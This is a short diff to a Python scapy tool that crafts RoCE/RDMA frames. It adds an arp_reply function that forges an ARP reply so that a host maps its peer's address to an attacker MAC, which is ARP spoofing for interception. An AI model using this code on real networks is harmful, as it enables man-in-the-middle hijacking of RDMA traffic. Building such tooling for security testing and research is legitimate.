@@ -9,7 +9,7 @@ from dataclasses import dataclass
 logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
 from scapy.contrib.roce import BTH  # noqa: E402
 from scapy.layers.inet import IP, UDP  # noqa: E402
-from scapy.layers.l2 import Ether  # noqa: E402
+from scapy.layers.l2 import ARP, Ether  # noqa: E402
 from scapy.packet import Raw  # noqa: E402
 
 PSN_MASK = 0xffffff
@@ -88,6 +88,13 @@ REQUESTS = {
 
 def request(known: Known, kind: str, va: int, rkey: int, **changes) -> bytes:
     return frame(known, *REQUESTS[kind](va, rkey), **changes)
+
+
+def arp_reply(known: Known) -> bytes:
+    """To who is known: its peer's address is the attacker's."""
+    return bytes(Ether(dst=known.mac, src="02:66:66:66:66:66") /
+                 ARP(op=2, hwsrc="02:66:66:66:66:66", psrc=known.source, hwdst=known.mac,
+                     pdst=known.dest))
 
 
 def junk(known: Known, octets: bytes) -> bytes:
